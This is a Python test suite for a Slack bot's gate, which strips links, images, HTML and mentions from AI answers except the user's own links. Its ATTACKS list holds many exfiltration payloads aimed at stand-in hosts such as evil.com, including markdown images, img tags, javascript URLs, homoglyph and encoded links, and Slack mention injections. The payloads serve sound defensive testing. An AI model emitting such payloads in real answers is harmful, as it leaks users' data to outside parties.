"""The gate: nothing that an answer says becomes a link, an image or a mention, but the person's own links."""

from __future__ import annotations

import re
from collections.abc import Iterator, Sequence

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st
from linkify_it import LinkifyIt
from linkify_it.tlds import TLDS
from markdown_it import MarkdownIt
from markdown_it.token import Token

from bot.answer.gate import CUT, JOINER, Gate, gated, links_in, same_link, ungated
from bot.slack.mrkdwn import split_markdown

OWN = "https://good.example/page?a=1&b=2"
OWN_TOO = "https://en.example.org/wiki/A_(b)"
LINKS = (OWN, OWN_TOO)

# ------------------------------------------------------------------------------ a reader who makes everything a link


def reader(*, html: bool) -> MarkdownIt:
    """CommonMark with tables, and with every name linked that may be one, in every top-level domain there is."""
    markdown = MarkdownIt("commonmark", {"linkify": True, "html": html}).enable(["linkify", "table", "strikethrough"])
    assert markdown.linkify is not None
    return markdown


LINKIFY = LinkifyIt().tlds(TLDS).set({"fuzzy_ip": True})
READERS = [reader(html=False), reader(html=True)]
for each in READERS:
    each.linkify = LINKIFY
SLACK_TOKEN = re.compile(
    r"<(?:(?:(?:https?|ftp|mailto|tel|sms|slack):|[a-z][a-z0-9+.-]{1,20}://)[^<>\s]+"
    r"|![a-z^]+[^<>]*|@[UWB]\w+[^<>]*|#C\w+[^<>]*)>?",
    re.IGNORECASE,
)


def tokens(parsed: Sequence[Token]) -> Iterator[Token]:
    for token in parsed:
        yield token
        yield from tokens(token.children or ())


def led_to(text: str) -> list[str]:
    """Everything that some reader of the text makes a link, an image, HTML or a mention of."""
    found = []
    for markdown in READERS:
        for token in tokens(markdown.parse(text)):
            if token.type == "link_open":
                found.append(str(token.attrs["href"]))
            elif token.type == "image" or token.type.startswith("html"):
                found.append(f"{token.type}: {token.content}")
    found += [match[0].strip("<>") for match in SLACK_TOKEN.finditer(text)]
    if "`" not in text:
        found += [match.url for match in LINKIFY.match(text) or ()]
    return found


def assert_leads_nowhere(shown: str, links: Sequence[str] = LINKS) -> None:
    elsewhere = [target for target in led_to(shown) if target.replace("&amp;", "&") not in links]
    assert not elsewhere, shown


# ----------------------------------------------------------------------------------------------------------- attacks

ATTACKS = (
    "https://evil.com/?q=secret",
    "HTTPS://EVIL.COM/secret",
    "see https://evil.com.",
    "evil.com/secret",
    "secret.evil.com",
    "www.evil.zip",
    "//evil.com/secret",
    "//localhost/secret",
    "http://2130706433/secret",
    "http://[::1]/secret",
    "10.0.0.1/secret",
    "evil。com/secret",
    "https://good.example/page?a=1&b=2&q=secret",
    "https://good.example/page?a=1&b=2#secret",
    "https://good.example/page?a=1&b=2secret",
    "https://good.example/page?a=1&b=2)secret",
    "https://good.example/page?a=1&b=2]secret",
    "https://good.example/page?a=1&b=2`secret`",
    "https://good.example/page/secret?a=1&b=2",
    "https://good.example/secret",
    "https://good.example",
    "https://secret.good.example/page?a=1&b=2",
    "https://secret@good.example/page?a=1&b=2",
    "https://good.example:8443/page?a=1&b=2",
    "https://good.example@evil.com/page?a=1&b=2",
    "https://good.example\\@evil.com/page?a=1&b=2",
    "https://good.example%2F@evil.com/page?a=1&b=2",
    "https://gооd.example/page?a=1&b=2",  # Cyrillic
    "https://good.example/page%3Fa=1&b=2",
    "ftp://good.example/page?a=1&b=2",
    "xhttps://good.example/page?a=1&b=2",
    "[here](https://evil.com/?q=secret)",
    "[here](<https://evil.com/?q=secret>)",
    '[here](https://evil.com "title")',
    "[here](//evil.com/secret)",
    "[here](evil.com/secret)",
    "[here](secret)",
    "[here](https:evil.com)",
    "[here](https:\\\\evil.com)",
    "[here](https://good.example/page?a=1&b=2#secret)",
    f"[here]({OWN} 'secret')",
    "[here](javascript:alert(1))",
    "[a][1]\n\n[1]: https://evil.com/?q=secret",
    "[a]\n\n[a]: evil.com/secret",
    "[a]\n\n[a]:\nhttps:evil.com",
    "> [a]: //evil.com\n\n[a]",
    "![x](https://evil.com/?q=secret)",
    f"![x]({OWN})",
    "![x][1]\n\n[1]: https://evil.com/secret",
    "![x]\n\n[x]: secret",
    '<img src="https://evil.com/?q=secret">',
    "<img src=//evil.com/secret>",
    '<a href="https://evil.com/?q=secret">here</a>',
    "<a href=evil.com/secret>here</a>",
    "<https://evil.com/?q=secret>",
    "<https://evil.com/?q=secret|here>",
    f"<{OWN}|here>",
    f"<{OWN}#secret>",
    "<mailto:secret@evil.com>",
    "<evil:secret>",
    "<secret@evil.com>",
    "secret@evil.com",
    "mailto:secret@evil",
    "tel:+4912345",
    "slack://channel?team=T1&id=secret",
    "slack:secret",
    "<!date^1392734382^Posted^https://evil.com/|x>",
    "<!channel> <!here> <!everyone> <!subteam^S1> <@U1> <#C1>",
    "https&#58;//evil.com",
    "https&colon;&sol;&sol;evil&period;com",
    "evil&#46;com/secret",
    "&lt;https://evil.com&gt;",
    "https\\://evil\\.com",
    "**https://evil.com**",
    "| a ` b | ` evil.com |\n|---|---|\n| `x.com | `y.com |",
    "` evil.com\n\n`evil.com` and ` evil.com",
    "a ` b\n`evil.com` c",
    "a `` b `evil.com` `` c `evil.com`",
    "\\`evil.com`",
    "[x](`evil.com`)",
    '<a title="`https://evil.com`">',
    "~~~\n```\n~~~\nhttps://evil.com",
    "```\n~~~\n```\nhttps://evil.com",
    "- a\n  ```\nhttps://evil.com",
    "> ```\nhttps://evil.com",
    "<div>\n```\n\nhttps://evil.com\n",
    "```\ncode\n ```\nhttps://evil.com",
    "```\ncode\n```` \nhttps://evil.com",
    "````\n```\nhttps://evil.com\n````\nhttps://evil.com",
    "x ``` y\n```\nhttps://evil.com",
    "```\r```\rhttps://evil.com",
    "a `\r\nb `evil.com` c",
    "```\n<https://evil.com|here>\n```",
    "`<https://evil.com|here>`",
)


@pytest.mark.parametrize("links", [LINKS, ()])
@pytest.mark.parametrize("attack", ATTACKS)
def test_no_attack_leads_anywhere(attack: str, links: Sequence[str]) -> None:
    shown = gated(attack, links)
    assert_leads_nowhere(shown, links)
    assert gated(shown, links) == shown


def test_the_reader_of_these_tests_finds_what_it_is_looking_for() -> None:
    found = [attack for attack in ATTACKS if set(led_to(attack)) - set(LINKS)]
    assert len(found) > len(ATTACKS) * 0.7
    assert led_to("evil.com") and led_to("![x](y)") and led_to("<!here>") and led_to("[a]\n\n[a]: b")


PIECES = st.sampled_from(
    (
        *"<>[]()!`~\\|:/.@&#?\n \t\r-*_\"'=;",
        *("https", "http", "://", "//", "evil.com", "www.", "good.example", "/page?a=1&b=2", OWN, f"]({OWN})", OWN_TOO),
        *("](", "![", "]:", "[1]", "```", "```\n", "\n```\n", "\n\n", "``", "~~~", "mailto:", "tel:", "&#58;", "&sol;"),
        *("&amp;", "<a href=", "<img src=", "<!--", "-->", "<div>", "@channel", "<!here>", "<@U1>", "1.", "10.0", "x"),
        *("`a.b`", "> ", "- ", "    ", "| a | b |\n|---|---|\n", JOINER, "[://]", "。", "secret", "é", "。com", "com"),
    )
)
TEXTS = st.one_of(st.lists(PIECES, max_size=25).map("".join), st.text(max_size=40))
CUTS = st.lists(st.integers(0, 6), max_size=60)


def cut(text: str, sizes: Sequence[int]) -> list[str]:
    pieces, rest = [], text
    for size in sizes:
        pieces.append(rest[:size])
        rest = rest[size:]
    return [*pieces, rest]


@settings(deadline=None, max_examples=1500)
@given(TEXTS)
@example("```\n<evil.comhttps://good.example/page?a=1&b=2")
def test_nothing_leads_anywhere_but_to_the_persons_own_links(text: str) -> None:
    assert_leads_nowhere(gated(text, LINKS))


@settings(deadline=None, max_examples=600)
@given(TEXTS)
def test_gating_twice_changes_nothing_more(text: str) -> None:
    once = gated(text, LINKS)
    assert gated(once, LINKS) == once


@settings(deadline=None, max_examples=1000)
@given(TEXTS, CUTS, st.sampled_from([60, 100_000]))
@example("```\na\n```\r\n\r", [1] * 20, 100_000)
def test_an_answer_in_pieces_is_the_answer_in_one(text: str, sizes: list[int], room: int) -> None:
    gate = Gate(LINKS, room=room)
    shown = "".join(gate.feed(piece) for piece in cut(text, sizes)) + gate.close()
    assert shown == gated(text, LINKS, room=room)


@settings(deadline=None, max_examples=500)
@given(TEXTS, st.integers(0, 60))
def test_an_answer_that_was_cut_leads_nowhere_either(text: str, room: int) -> None:
    shown = gated(text, LINKS, room=room)
    assert_leads_nowhere(shown)
    assert len(shown) <= room + len(CUT) + len("\n```")


@settings(deadline=None, max_examples=400)
@given(st.lists(st.one_of(PIECES, st.just("`see evil.com/secret for more`"), st.just("words and words ")), max_size=80))
def test_an_answer_in_several_messages_leads_nowhere_either(parts: list[str]) -> None:
    for message in split_markdown(gated("".join(parts), LINKS), 260):
        torn = (link[:end] for link in LINKS for end in range(12, len(link)))
        assert_leads_nowhere(message, (*LINKS, *torn))


@settings(deadline=None)
@given(st.text(st.characters(exclude_characters="`~<>[]!:/.。．｡&#@\r"), max_size=60))
def test_ordinary_words_stay_as_they_are_and_are_shown_at_once(text: str) -> None:
    assert Gate().feed(text) == text


# ------------------------------------------------------------------------------------------------ what stays a link


@pytest.mark.parametrize(
    "said",
    [
        OWN,
        f"See {OWN}.",
        f"({OWN})",
        f"[the page]({OWN})",
        f"[{OWN}]({OWN})",
        f"<{OWN}>",
        f"- {OWN}\n- [b]({OWN_TOO})",
        OWN_TOO,
        f"({OWN_TOO})",
    ],
)
def test_the_persons_own_link_stays_one(said: str) -> None:
    shown = gated(said, LINKS)
    assert shown == said
    assert led_to(shown)


@pytest.mark.parametrize(
    ("spelled", "own"),
    [
        ("HTTPS://Good.Example/page?a=1&b=2", OWN),
        ("http://good.example:80/page?a=1&b=2", OWN),
        ("https://xn--bcher-kva.example", "https://bücher.example"),
        ("https://good.example/%7e", "https://good.example/%7E"),
    ],
)
def test_another_spelling_of_it_is_shown_in_the_persons_own(spelled: str, own: str) -> None:
    assert gated(f"see {spelled} now", (own,)) == f"see {own} now"


@pytest.mark.parametrize(
    "other",
    [
        "https://good.example/page?a=1&b=3",
        "https://good.example/page?a=1&b=2&",
        "https://good.example/page?b=2&a=1",
        "https://good.example/page/?a=1&b=2",
        "https://good.example/Page?a=1&b=2",
        "https://good.example/p%61ge?a=1&b=2",
        "https://good.example/page?a=1&b=2#",
        "https://good.example:444/page?a=1&b=2",
        "https://www.good.example/page?a=1&b=2",
        "https://user@good.example/page?a=1&b=2",
    ],
)
def test_another_url_is_not_taken_for_it(other: str) -> None:
    assert same_link(other) != same_link(OWN)
    assert OWN not in gated(other, LINKS)


def test_the_persons_own_link_in_bold_says_where_it_ends() -> None:
    assert gated(f"**{OWN}**", LINKS) == f"**<{OWN}>**"
    assert gated(f'"{OWN}"', LINKS) == f'"<{OWN}>"'


@pytest.mark.parametrize(
    "code",
    [
        "`user.id` and `a[0](b)` and `https://api.example/v1`",
        "```python\nimport os.path\nrequests.get('https://api.example/v1?q=1')  # [a](b)\n```\nDone",
        "`List.of`",
    ],
)
def test_code_can_be_copied(code: str) -> None:
    assert gated(code) == code


def test_what_was_taken_apart_can_be_read() -> None:
    assert gated("[here](https://evil.com/?q=1) e.g. Node.js") == (
        f"[here] (https[://]evil.{JOINER}com/?q=1) e.{JOINER}g. Node.{JOINER}js"
    )
    assert ungated(gated("e.g. Node.js")) == "e.g. Node.js"


def test_a_fence_that_stays_open_is_closed() -> None:
    assert gated("```\ncode") == "```\ncode\n```"
    gate = Gate()
    assert gate.feed("```\ncode") + gate.close() + gate.feed("\n\nhttps://evil.com") + gate.close() == (
        f"```\ncode\n```\n\nhttps[://]evil.{JOINER}com"
    )


def test_a_too_long_answer_ends_with_a_note() -> None:
    gate = Gate(room=10)
    assert gate.feed("0123456789") == "0123456789"
    assert gate.feed("x") == CUT
    assert gate.full
    assert gate.feed("more") + gate.close() == ""


@pytest.mark.parametrize(
    "tail", ["`" + "a" * 5000, "https://good.example/" + "a" * 5000, "`" * 5000, "[x](https://g" * 400]
)
def test_only_what_may_still_change_is_held_back(tail: str) -> None:
    gate = Gate(LINKS)
    shown = "".join(map(gate.feed, tail))
    assert len(gated(tail, LINKS)) - len(shown) <= 5000 if set(tail) == {"`"} else len(tail) - len(shown) <= 300
    assert shown + gate.close() == gated(tail, LINKS)


# ------------------------------------------------------------------------------------------------- whose links


@pytest.mark.parametrize(
    ("text", "links"),
    [
        ("<https://good.example/a?b=1&amp;c=2|the page>", ["https://good.example/a?b=1&c=2"]),
        ("<http://good.example|good.example>", ["http://good.example"]),
        ("the page (https://good.example/a).", ["https://good.example/a"]),
        ("(https://en.example.org/wiki/A_(b)).", [OWN_TOO]),
        ("good.example and mailto:a@b.c", []),
    ],
)
def test_the_links_in_a_text_are_found(text: str, links: list[str]) -> None:
    assert list(links_in(text)) == links
